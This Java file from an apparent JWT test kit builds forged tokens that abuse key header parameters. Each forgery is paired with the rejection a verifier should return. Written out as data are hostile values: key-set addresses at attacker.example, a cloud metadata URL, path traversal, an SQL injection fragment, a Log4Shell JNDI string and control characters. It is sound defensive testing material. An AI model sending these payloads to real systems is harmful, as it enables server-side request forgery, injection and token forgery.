package dev.tanukey.testkit.forged;

import static dev.tanukey.reason.RejectionReason.KEY_UNKNOWN;
import static dev.tanukey.reason.RejectionReason.SIGNATURE_INVALID;
import static dev.tanukey.reason.RejectionReason.TOKEN_MALFORMED;

import dev.tanukey.testkit.SigningKey;
import dev.tanukey.testkit.TokenBuilder;
import dev.tanukey.testkit.TokenMint;
import java.util.List;
import java.util.Locale;

/** {@link Attack#KEY}. */
final class KeyForgeries {
    private static final Chapter KEY = new Chapter(Attack.KEY);

    private static final String OWN =
            "The sender signs with a key of his own (RFC 8725 3.8): whoever trusts it trusts everybody.";
    private static final String BROUGHT =
            "A key that comes with the token proves nothing (RFC 7515 10.3; CVE-2018-0114, CVE-2026-27962).";
    private static final String ADDRESS =
            "A verifier that fetches it trusts everybody's key, and can be made to ask any"
                    + " address (RFC 8725 3.10).";
    private static final String LOOKUP =
            "kid is a stranger's text; it is looked up, never put into a path, a query or an address (RFC 8725 3.10).";
    private static final String STRING = "kid is a string (RFC 7515 4.1.4).";
    private static final String TRIAL = "The issuer's own signature, but the header does not name its key, so that a"
            + " verifier would have to try them all (OpenID Connect Core 10.1).";

    private KeyForgeries() {}

    static List<ForgedToken> list() {
        return List.of(
                KEY.standard("swapped", "signed with a stranger's key under the issuer's kid", OWN)
                        .by((mint, good) -> Stranger.sign(good), SIGNATURE_INVALID),
                KEY.standard("foreign", "signed with a stranger's key, which kid names", OWN)
                        .by((mint, good) -> Stranger.signUnderOwnName(good), KEY_UNKNOWN),
                KEY.standard("foreign-without-kid", "signed with a stranger's key, no kid", OWN)
                        .by(
                                (mint, good) -> Stranger.KEY.sign(Workshop.headerWithout(good, "kid"), good.payload()),
                                KEY_UNKNOWN,
                                SIGNATURE_INVALID),
                KEY.standard("weak", "signed with an own key of 1024 bits under the issuer's kid", OWN)
                        .by((mint, good) -> Stranger.Weak.KEY.sign(good.header(), good.payload()), SIGNATURE_INVALID),
                KEY.standard("embedded", "jwk brings a stranger's key, which kid names", BROUGHT)
                        .by(
                                (mint, good) -> Stranger.signUnderOwnName(good.header("jwk", Stranger.KEY.jwk())),
                                KEY_UNKNOWN),
                KEY.standard("embedded-under-known-kid", "jwk brings a stranger's key under the issuer's kid", BROUGHT)
                        .by((mint, good) -> Stranger.sign(good.header("jwk", jwkNamedAs(good))), SIGNATURE_INVALID),
                KEY.standard("embedded-without-kid", "jwk brings a stranger's key, no kid", BROUGHT)
                        .by(
                                (mint, good) -> Stranger.KEY.sign(
                                        Workshop.headerWithout(good.header("jwk", Stranger.KEY.jwk()), "kid"),
                                        good.payload()),
                                KEY_UNKNOWN,
                                SIGNATURE_INVALID),
                KEY.standard("embedded-weak", "jwk brings a key of 1024 bits", BROUGHT)
                        .by(KeyForgeries::embeddedWeak, SIGNATURE_INVALID),
                KEY.standard("jku", "jku names a stranger's key set", ADDRESS)
                        .by(
                                (mint, good) -> Stranger.signUnderOwnName(
                                        good.header("jku", "https://attacker.example/keys.json")),
                                KEY_UNKNOWN),
                KEY.standard("jku-on-our-host", "jku names a file on the issuer's own host", ADDRESS)
                        .by(
                                (mint, good) -> Stranger.signUnderOwnName(
                                        good.header("jku", mint.issuer() + "/attacker/shop/-/raw/main/keys.json")),
                                KEY_UNKNOWN),
                KEY.standard("jku-inside", "jku names an address of the inner network", ADDRESS)
                        .by(
                                (mint, good) -> Stranger.signUnderOwnName(
                                        good.header("jku", "http://169.254.169.254/latest/meta-data/")),
                                KEY_UNKNOWN),
                KEY.standard("x5u", "x5u names a stranger's certificate", ADDRESS)
                        .by(
                                (mint, good) -> Stranger.signUnderOwnName(
                                        good.header("x5u", mint.issuer() + "/attacker/shop/-/raw/main/key.pem")),
                                KEY_UNKNOWN),
                KEY.standard("x5c", "x5c brings a stranger's certificate under the issuer's kid", BROUGHT)
                        .by(
                                (mint, good) -> Stranger.Certified.KEY.sign(
                                        withX5c(good).header(), good.payload()),
                                SIGNATURE_INVALID),
                KEY.standard("x5c-without-kid", "x5c brings a stranger's certificate, no kid", BROUGHT)
                        .by(
                                (mint, good) -> Stranger.Certified.KEY.sign(
                                        Workshop.headerWithout(withX5c(good), "kid"), good.payload()),
                                KEY_UNKNOWN,
                                SIGNATURE_INVALID),
                KEY.standard("x5t", "x5t names a stranger's certificate", BROUGHT)
                        .by(
                                (mint, good) -> Stranger.sign(good.header("x5t", "dGh1bWJwcmludC1vZi1hLWtleQ")),
                                SIGNATURE_INVALID),
                KEY.standard("other-of-the-set", "kid names the issuer's other key", OWN)
                        .by(
                                (mint, good) -> good.header(
                                                "kid", otherKey(mint, good).keyId())
                                        .sign(),
                                SIGNATURE_INVALID),
                KEY.policy("unknown-kid", "the issuer's signature, kid names no key", TRIAL)
                        .heading("kid", "no-such-key", KEY_UNKNOWN),
                KEY.policy("without-kid", "the issuer's signature, no kid, though it publishes two keys", TRIAL)
                        .by((mint, good) -> Workshop.withoutParameter(good, "kid"), KEY_UNKNOWN),
                KEY.policy("empty-kid", "the issuer's signature, kid is an empty string", TRIAL)
                        .heading("kid", "", KEY_UNKNOWN),
                KEY.policy("kid-in-other-case", "the issuer's signature, kid in the other case", TRIAL)
                        .by((mint, good) -> good.header("kid", otherCase(good)).sign(), KEY_UNKNOWN),
                KEY.policy("kid-with-blank", "the issuer's signature, a blank behind kid", TRIAL)
                        .by(
                                (mint, good) -> good.header(
                                                "kid", good.signingKey().keyId() + " ")
                                        .sign(),
                                KEY_UNKNOWN),
                KEY.standard("kid-number", "kid is a number", STRING).heading("kid", 7L, TOKEN_MALFORMED),
                KEY.policy("kid-null", "kid is null", STRING)
                        .by((mint, good) -> good.header("kid", null).sign(), TOKEN_MALFORMED),
                KEY.standard("kid-list", "kid is a list with the right one in it", STRING)
                        .by(
                                (mint, good) -> good.header(
                                                "kid", List.of(good.signingKey().keyId()))
                                        .sign(),
                                TOKEN_MALFORMED),
                KEY.standard("kid-path", "kid is a path to an empty file", LOOKUP)
                        .by((mint, good) -> strangersKid(good, "../../../../../../dev/null"), KEY_UNKNOWN),
                KEY.standard("kid-sql", "kid continues a query", LOOKUP)
                        .by((mint, good) -> strangersKid(good, "x' UNION SELECT 'key' -- "), KEY_UNKNOWN),
                KEY.standard("kid-url", "kid is an address", LOOKUP)
                        .by((mint, good) -> strangersKid(good, "https://attacker.example/key.pem"), KEY_UNKNOWN),
                KEY.standard("kid-lookup", "kid is a JNDI look-up, for whoever logs it (CVE-2021-44228)", LOOKUP)
                        .by((mint, good) -> strangersKid(good, "${jndi:ldap://attacker.example/a}"), KEY_UNKNOWN),
                KEY.standard("kid-control-characters", "kid breaks lines and colours a terminal", LOOKUP)
                        .by((mint, good) -> strangersKid(good, "a\r\nb\u001B[31m\u202Ec\0"), KEY_UNKNOWN),
                KEY.standard("kid-huge", "kid has 10,000 characters", LOOKUP)
                        .by((mint, good) -> strangersKid(good, "k".repeat(10_000)), KEY_UNKNOWN));
    }

    private static String strangersKid(TokenBuilder<?> good, String kid) {
        return Stranger.sign(good.header("kid", kid));
    }

    private static Object jwkNamedAs(TokenBuilder<?> good) {
        var jwk = Stranger.KEY.jwk();
        jwk.put("kid", good.signingKey().keyId());
        return jwk;
    }

    private static String embeddedWeak(TokenMint mint, TokenBuilder<?> good) {
        good.header("jwk", Stranger.Weak.KEY.jwk());
        return Stranger.Weak.KEY.sign(good.header(), good.payload());
    }

    private static TokenBuilder<?> withX5c(TokenBuilder<?> good) {
        return good.header("x5c", List.of(Stranger.x5c(Stranger.Certified.KEY.der())));
    }

    private static SigningKey otherKey(TokenMint mint, TokenBuilder<?> good) {
        SigningKey users = mint.userToken().signingKey();
        return users.keyId().equals(good.signingKey().keyId()) ? mint.ciToken().signingKey() : users;
    }

    private static String otherCase(TokenBuilder<?> good) {
        return good.signingKey().keyId().toLowerCase(Locale.ROOT);
    }
}
